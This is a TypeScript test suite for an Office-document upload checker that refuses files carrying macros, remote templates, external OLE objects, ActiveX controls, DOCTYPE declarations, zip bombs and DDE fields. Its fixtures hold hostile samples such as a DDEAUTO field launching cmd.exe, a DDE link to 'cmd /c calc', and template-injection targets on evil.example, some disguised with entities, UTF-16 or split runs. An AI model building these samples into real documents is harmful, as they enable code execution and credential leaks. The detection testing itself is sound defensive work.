import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { newFileName } from '../storage/file-name.ts'
import { folderStorage } from '../storage/folder.ts'
import type { Storage } from '../storage/storage.ts'
import { checkFile } from './file-check.ts'
import { isRemote } from './office-links.ts'
import {
  docmFile,
  docxFile,
  ole2File,
  xlsxFile,
  type ZipPart,
  zipFile,
} from '../document/testing/small-files.ts'

let folder = ''
let storage: Storage
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'rinsetu-office-'))
  storage = folderStorage(folder)
})
afterAll(() => rm(folder, { recursive: true, force: true }))

/** Refused by its code, or taken: flagged or plain. */
const verdict = async (fileName: string, bytes: Buffer) => {
  const name = newFileName()
  await storage.put(name, Readable.from([bytes]))
  const answer = await checkFile(storage, { name, fileName })
  if (!answer.ok) return answer.code
  return answer.linksElsewhere ? 'flagged' : 'plain'
}

const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const relations = (...lines: string[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${lines.join('')}</Relationships>`
const external = (type: string, target: string) =>
  `<Relationship Id="rId1" Type="${TYPES}/${type}" Target="${target}" TargetMode="External"/>`
const inner = (type: string, target: string) =>
  `<Relationship Id="rId2" Type="${TYPES}/${type}" Target="${target}"/>`
const rels = (body: string, name = 'word/_rels/settings.xml.rels'): ZipPart => ({ name, body })
const sheetRels = (body: string) => rels(body, 'xl/worksheets/_rels/sheet1.xml.rels')
const bookLink = (target: string) =>
  rels(
    relations(external('externalLinkPath', target)),
    'xl/externalLinks/_rels/externalLink1.xml.rels',
  )

const BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
const END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
/** A field of Word, its instruction in one run or several. */
const field = (...pieces: readonly string[]) =>
  `${BEGIN}${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')}${END}`
const words = (body: string, name = 'word/footnotes.xml'): ZipPart => ({
  name,
  body: `<?xml version="1.0" encoding="UTF-8"?><w:document>${body}</w:document>`,
})

const utf16 = (text: string, bigEndian = false) => {
  const bytes = Buffer.from(`\ufeff${text.replace('UTF-8', 'UTF-16')}`, 'utf16le')
  return bigEndian ? bytes.swap16() : bytes
}
const DOCTYPE = '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'

describe('an Office file that fetches or carries what does harm is refused like one with macros', () => {
  const remote = 'http://evil.example/t.dotm'
  test.each([
    ['a template from the web', docxFile(rels(relations(external('attachedTemplate', remote))))],
    [
      'a template by https',
      docxFile(rels(relations(external('attachedTemplate', 'HTTPS://evil.example/t')))),
    ],
    [
      'a template on a share',
      docxFile(rels(relations(external('attachedTemplate', '\\\\evil\\share\\t.dotm')))),
    ],
    [
      'a template on a share, with slashes',
      docxFile(rels(relations(external('attachedTemplate', '//evil/share/t.dotm')))),
    ],
    [
      'a template on a share, as an address',
      docxFile(rels(relations(external('attachedTemplate', 'file://evil/share/t.dotm')))),
    ],
    [
      'a share with many slashes',
      docxFile(rels(relations(external('attachedTemplate', 'file://///evil/share/t.dotm')))),
    ],
    [
      'a share behind an address',
      docxFile(rels(relations(external('attachedTemplate', 'file:///\\\\evil\\share\\t.dotm')))),
    ],
    [
      'an address written with entities',
      docxFile(rels(relations(external('attachedTemplate', '&#x68;&#116;tp://evil.example/t')))),
    ],
    [
      'an address with a line break in it',
      docxFile(rels(relations(external('attachedTemplate', 'ht&#10;tp://evil.example/t')))),
    ],
    [
      'a share in percent signs',
      docxFile(rels(relations(external('attachedTemplate', '%5C%5Cevil%5Cshare%5Ct.dotm')))),
    ],
    [
      'a scheme of its own',
      docxFile(rels(relations(external('oleObject', 'mhtml:http://evil.example/!x')))),
    ],
    [
      'a frame',
      docxFile(rels(relations(external('frame', remote)), 'word/_rels/webSettings.xml.rels')),
    ],
    [
      'a document within',
      docxFile(rels(relations(external('subDocument', remote)), 'word/_rels/document.xml.rels')),
    ],
    [
      'an object from the web',
      docxFile(rels(relations(external('oleObject', remote)), 'word/_rels/document.xml.rels')),
    ],
    ['an object in a sheet', xlsxFile(sheetRels(relations(external('oleObject', remote))))],
    ['one said to be inside', docxFile(rels(relations(inner('attachedTemplate', remote))))],
    [
      'a prefix before the element',
      docxFile(
        rels(relations(external('frame', remote)).replaceAll('Relationship', 'r:Relationship')),
      ),
    ],
    [
      'single quotes and a > in a value',
      docxFile(
        rels(
          relations(
            external('frame', remote).replaceAll('"', "'").replace("Id='rId1'", "Id='a>b'"),
          ),
        ),
      ),
    ],
    [
      'the strict form of the type',
      docxFile(
        rels(
          relations(external('frame', remote)).replace(
            TYPES,
            'http://purl.oclc.org/ooxml/officeDocument/relationships',
          ),
        ),
      ),
    ],
    [
      'relationships in UTF-16',
      docxFile({
        name: 'word/_rels/settings.xml.rels',
        body: utf16(relations(external('frame', remote))),
      }),
    ],
    [
      'relationships in the other UTF-16',
      docxFile({
        name: 'word/_rels/settings.xml.rels',
        body: utf16(relations(external('frame', remote)), true),
      }),
    ],
    [
      'a packed object',
      docxFile({ name: 'word/embeddings/oleObject1.bin', body: ole2File(['Package']) }),
    ],
    ['a packed object that is none', xlsxFile({ name: 'xl/embeddings/oleObject1.bin', body: 'x' })],
    [
      'an object under another name',
      docxFile({ name: 'word/media/image1.png', body: ole2File(['Package']) }),
    ],
    [
      'an object named by its relationship',
      docxFile(
        rels(relations(inner('oleObject', 'media/image1.dat')), 'word/_rels/document.xml.rels'),
      ),
    ],
    ['a control', docxFile({ name: 'word/activeX/activeX1.xml', body: '<ax:ocx/>' })],
    [
      'a control, by its relationship',
      docxFile(
        rels(relations(inner('control', 'controls/c1.xml')), 'word/_rels/document.xml.rels'),
      ),
    ],
    ['a document type', docxFile({ name: 'word/footnotes.xml', body: DOCTYPE })],
    ['a document type in a sheet', xlsxFile({ name: 'xl/sharedStrings.xml', body: DOCTYPE })],
    ['a document type in UTF-16', docxFile({ name: 'word/footnotes.xml', body: utf16(DOCTYPE) })],
    [
      'a document type in the other UTF-16',
      docxFile({ name: 'word/footnotes.xml', body: utf16(DOCTYPE, true) }),
    ],
    [
      'a document type behind a long comment',
      docxFile({
        name: 'word/footnotes.xml',
        body: `<!-- ${'x'.repeat(300_000)} --><!DOCTYPE x><x/>`,
      }),
    ],
    [
      'a document type in a part of another name',
      docxFile({ name: 'customXml/item1.dat', body: DOCTYPE }),
    ],
    [
      'a field that starts a program',
      docxFile(words(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k x"'))),
    ],
    ['its instruction in pieces', docxFile(words(field(' D', 'DE', ' excel')))],
    ['its letters as numbers', docxFile(words(field('&#x44;&#68;E excel')))],
    [
      'a field in one element',
      docxFile(words('<w:fldSimple w:dirty="true" w:instr=\'dde "excel"\'/>')),
    ],
    ['a field in a header', docxFile(words(field('DDE excel'), 'word/header1.xml'))],
    [
      'a field whose name another one makes',
      docxFile(words(`${BEGIN}${field('QUOTE 68 68 69')}${END}`)),
    ],
    [
      'a field behind a long text',
      docxFile(words(`<w:t>${'x'.repeat(300_000)}</w:t>${field('DDE excel')}`)),
    ],
    [
      'a link of a workbook to a program',
      xlsxFile({
        name: 'xl/externalLinks/externalLink1.xml',
        body: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
    ],
  ])('%s', async (_what, bytes) => {
    const name = bytes.includes('xl/workbook.xml') ? 'a.xlsx' : 'a.docx'
    expect(await verdict(name, bytes)).toBe('FILE_HAS_MACROS')
  })

  test('content types in a coding that nobody reads', async () => {
    const types = '<?xml version="1.0" encoding="utf-7"?><Types/>'
    const bytes = zipFile([
      { name: '[Content_Types].xml', body: types },
      { name: 'word/document.xml', body: '<w:document/>' },
    ])
    expect(await verdict('a.docx', bytes)).toBe('FILE_CONTENT_MISMATCH')
  })

  test('macros named in UTF-16', async () => {
    const types = utf16(
      '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    )
    const bytes = zipFile([
      { name: '[Content_Types].xml', body: types },
      { name: 'word/document.xml', body: '<w:document/>' },
    ])
    expect(await verdict('a.docx', bytes)).toBe('FILE_HAS_MACROS')
  })
})

describe('what is embedded is looked into likewise', () => {
  const within = (bytes: Buffer, name = 'Microsoft_Excel_Sheet1.xlsx') =>
    docxFile({ name: `word/embeddings/${name}`, body: bytes })
  const bad = xlsxFile(sheetRels(relations(external('oleObject', 'https://evil.example/o'))))

  test.each([
    ['an honest workbook', within(xlsxFile()), 'plain'],
    ['an honest letter', within(docxFile(), 'letter.docx'), 'plain'],
    ['a workbook with a link to another', within(xlsxFile(bookLink('CMA%202025.xlsx'))), 'flagged'],
    ['a workbook of 1997', within(ole2File(['Workbook']), 'Worksheet.xls'), 'plain'],
    [
      'a workbook of 1997 with macros',
      within(ole2File(['Workbook', '_VBA_PROJECT_CUR/']), 'Worksheet.xls'),
      'FILE_HAS_MACROS',
    ],
    ['a letter with macros', within(docmFile(), 'letter.docm'), 'FILE_HAS_MACROS'],
    ['a workbook that fetches', within(bad), 'FILE_HAS_MACROS'],
    [
      'one in one',
      within(docxFile({ name: 'word/embeddings/a.xlsx', body: bad }), 'b.docx'),
      'FILE_HAS_MACROS',
    ],
    [
      'too many in one another',
      within(
        docxFile({
          name: 'word/embeddings/b.docx',
          body: docxFile({ name: 'word/embeddings/a.xlsx', body: xlsxFile() }),
        }),
        'c.docx',
      ),
      'FILE_HAS_MACROS',
    ],
    ['a torn one', within(xlsxFile().subarray(0, 200)), 'FILE_CONTENT_MISMATCH'],
    [
      'one locked with a password',
      within(ole2File(['EncryptedPackage'])),
      'FILE_PASSWORD_PROTECTED',
    ],
  ])('%s', async (_what, bytes, answer) => {
    expect(await verdict('a.docx', bytes)).toBe(answer)
  })

  test('a bomb in a workbook counts with what is around it', async () => {
    const bomb = xlsxFile({
      name: 'xl/worksheets/sheet1.xml',
      body: Buffer.alloc(40 * 1024 * 1024, 32),
    })
    expect(await verdict('a.docx', within(bomb))).toBe('FILE_TOO_BIG_UNPACKED')
  })
})

describe('what accountants send is taken', () => {
  test.each([
    [
      'fields of a letter',
      docxFile(
        words(
          [
            field(' PAGE '),
            field('TOC \\o "1-3"'),
            `${BEGIN}<w:r><w:instrText>IF </w:instrText></w:r>${field('MERGEFIELD DDE')}${END}`,
            '<w:fldSimple w:instr="DATE"/><w:t>DDEAUTO is explained below</w:t>',
          ].join(''),
        ),
      ),
      'plain',
    ],
    [
      'links to pages',
      docxFile(
        rels(
          relations(external('hyperlink', 'https://www.gst.gov.in/')),
          'word/_rels/document.xml.rels',
        ),
      ),
      'plain',
    ],
    [
      'links to a share, to click on',
      docxFile(
        rels(
          relations(external('hyperlink', 'file:///\\\\server\\CMA')),
          'word/_rels/document.xml.rels',
        ),
      ),
      'plain',
    ],
    ['a link to another workbook', xlsxFile(bookLink('Projections%20FY26.xlsx')), 'flagged'],
    [
      'a link to a workbook on a disk',
      xlsxFile(bookLink('file:///D:\\Clients\\Verma\\CMA.xlsx')),
      'flagged',
    ],
    [
      'a link to a workbook on a share',
      xlsxFile(bookLink('file:///\\\\server\\clients\\CMA.xlsx')),
      'flagged',
    ],
    [
      'a link to a workbook in the cloud',
      xlsxFile(bookLink('https://firm.sharepoint.com/CMA.xlsx')),
      'flagged',
    ],
    [
      'a template on the author’s disk',
      docxFile(
        rels(
          relations(external('attachedTemplate', 'file:///C:\\Users\\CA\\Templates\\Letter.dotx')),
        ),
      ),
      'flagged',
    ],
    [
      'a template by its name alone',
      docxFile(rels(relations(external('attachedTemplate', 'Letter.dotx')))),
      'flagged',
    ],
    [
      'a linked picture',
      docxFile(
        rels(
          relations(external('image', 'https://verma.example/logo.png')),
          'word/_rels/document.xml.rels',
        ),
      ),
      'flagged',
    ],
    [
      'data from elsewhere',
      xlsxFile({ name: 'xl/connections.xml', body: '<connections/>' }),
      'flagged',
    ],
    [
      'settings of a printer',
      xlsxFile({ name: 'xl/printerSettings/printerSettings1.bin', body: 'H\0P\0' }),
      'plain',
    ],
    [
      'form controls of a sheet',
      xlsxFile(
        { name: 'xl/ctrlProps/ctrlProp1.xml', body: '<formControlPr/>' },
        sheetRels(relations(inner('ctrlProp', '../ctrlProps/ctrlProp1.xml'))),
      ),
      'plain',
    ],
    [
      'a word about DOCTYPE',
      docxFile({ name: 'word/footnotes.xml', body: '<w:t>&lt;!DOCTYPE html></w:t>' }),
      'plain',
    ],
    [
      'parts in UTF-16',
      docxFile({
        name: 'customXml/item1.xml',
        body: utf16('<?xml version="1.0" encoding="UTF-8"?><a/>'),
      }),
      'plain',
    ],
  ])('%s', async (_what, bytes, answer) => {
    const name = bytes.includes('xl/workbook.xml') ? 'a.xlsx' : 'a.docx'
    expect(await verdict(name, bytes)).toBe(answer)
  })
})

test.each([
  ['Normal.dotm', false],
  ['../Letters/Letter.dotx', false],
  ['C:\\Users\\CA\\Normal.dotm', false],
  ['file:///C:/Users/CA/Normal.dotm', false],
  ['file:///C|/Normal.dotm', false],
  ['file://localhost/C:/Normal.dotm', false],
  ['file:///Users/ca/Normal.dotm', false],
  ['/word/template.xml', false],
  ['', false],
  ['file:////server/share/a', true],
  ['file://localhost//server/share/a', true],
  ['file:\\\\server\\share\\a', true],
  ['\\/server/share', true],
  ['\\\\?\\UNC\\server\\share', true],
  ['http:evil.example/a', true],
  ['ftp://evil.example/a', true],
  [' https://evil.example', true],
])('%s lies on another machine: %s', (target, remote) => {
  expect(isRemote(target)).toBe(remote)
})
